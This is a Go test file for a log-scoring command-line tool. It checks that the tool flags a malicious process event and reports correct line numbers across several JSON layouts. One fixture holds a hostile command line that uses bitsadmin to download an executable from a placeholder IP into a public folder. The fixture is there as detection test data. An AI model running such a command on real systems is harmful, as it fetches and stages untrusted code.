package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	benignJSON = `{"EventCode":"1","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad"}`
	attackJSON = `{"EventCode":"1","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"}`
)

func indented(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	if err := json.Indent(&b, []byte(s), "  ", "  "); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// In a pretty-printed array the attack is named by the line of its '{'.
func TestJSONPrettyArrayNamesTheAttackByItsLine(t *testing.T) {
	benign, attack := indented(t, benignJSON), indented(t, attackJSON)
	// line 1 "[", the benign event on lines 2-6, the attack from line 7.
	input := "[\n  " + benign + ",\n  " + attack + "\n]\n"
	if got := strings.Count(input[:strings.Index(input, "bitsadmin")], "\n"); got != 8 {
		t.Fatalf("the layout moved: bitsadmin on line %d, want 9", got+1)
	}
	stdout, stderr, status := runScore(strings.NewReader(input), "--format", "json", "--alerts-only")
	if status != ExitAlert {
		t.Fatalf("status %d, stderr %q", status, stderr)
	}
	var obj map[string]any
	if err := json.Unmarshal([]byte(strings.TrimSpace(stdout)), &obj); err != nil {
		t.Fatalf("%v: %q", err, stdout)
	}
	if obj["line"] != 7.0 {
		t.Errorf("line = %v, want 7 (where the attack's object starts)", obj["line"])
	}
}

// A bad value is named by the line where it starts, in JSON lines (after
// blank lines) and in a pretty-printed array; the events after it are
// scored.
func TestJSONBadValueNamedByItsLine(t *testing.T) {
	for name, c := range map[string]struct {
		input, want string
	}{
		"JSON lines": {"\n" + benignJSON + "\n\n\n" + `{"CommandLine": tru}` + "\n" + attackJSON + "\n", "-:5: JSON at byte"},
		"pretty array": {"[\n  " + indented(t, benignJSON) + ",\n  {\n    \"CommandLine\": \"x\",\n    \"Image\" \"y\"\n  },\n" + attackJSON + "\n]\n",
			"-:7: JSON at byte"},
	} {
		t.Run(name, func(t *testing.T) {
			_, stderr, status := runScore(strings.NewReader(c.input))
			if status != ExitAlert || !strings.Contains(stderr, c.want) {
				t.Errorf("status %d, stderr %q; want 1 and %q", status, stderr, c.want)
			}
		})
	}
}

// Every JSON shape names each event by the line where its value starts:
// its element of an array, else its top-level object.
func TestJSONEventLines(t *testing.T) {
	// Each event is marked by "n" (a hit by its "_id"); its value starts
	// on the nearest line at or before the mark's that starts or ends with
	// '{'.
	var events, hits []string
	for i := range 4 {
		events = append(events, fmt.Sprintf(`{"n":"e%d","CommandLine":"c\nd","Image":"i"}`, i))
		hits = append(hits, fmt.Sprintf(`{"_index":"x","_id":"e%d","_source":{"n":"e%d","CommandLine":"c","Image":"i"}}`, i, i))
	}
	all, allHits := strings.Join(events, ","), strings.Join(hits, ",")
	for name, input := range map[string]string{
		"lines":                   strings.Join(events, "\n\n"),
		"pretty lines":            indented(t, events[0]) + "\n" + indented(t, events[1]) + indented(t, events[2]) + " \n\n " + indented(t, events[3]),
		"pretty array":            indented(t, "["+all+"]"),
		"pretty results document": indented(t, `{"preview":false,"fields":[{"name":"n"}],"results":[`+all+`],"x":{}}`),
		"pretty search response":  indented(t, `{"took":1,"hits":{"total":{"value":4},"hits":[`+allHits+`]},"aggregations":{}}`),
	} {
		t.Run(name, func(t *testing.T) {
			lines := strings.Split(input, "\n")
			var want, got []string
			for i, line := range lines {
				if !strings.Contains(line, `"n":`) && !strings.Contains(line, `"_id":`) || strings.Contains(input, `"_id"`) && !strings.Contains(line, `"_id":`) {
					continue
				}
				start := i
				for trimmed := strings.TrimSpace(lines[start]); !strings.HasPrefix(trimmed, "{") && !strings.HasSuffix(trimmed, "{"); trimmed = strings.TrimSpace(lines[start]) {
					start--
				}
				want = append(want, fmt.Sprintf("%s:%d", strings.Split(strings.SplitAfter(line, `"e`)[1], `"`)[0], start+1))
			}
			err := readEvents("f", strings.NewReader(input), nil, func(ev *inputEvent) {
				got = append(got, fmt.Sprintf("%s:%d", strings.TrimPrefix(ev.get("n"), "e"), ev.line))
			}, func(e *inputError) {
				t.Errorf("%s:%d: %v", e.source, e.line, e.err)
			})
			if err != nil {
				t.Fatal(err)
			}
			if len(want) != 4 {
				t.Fatalf("the layout found %d events, want 4:\n%s", len(want), input)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("event:line (-want +got):\n%s\ninput:\n%s", diff, input)
			}
		})
	}
}
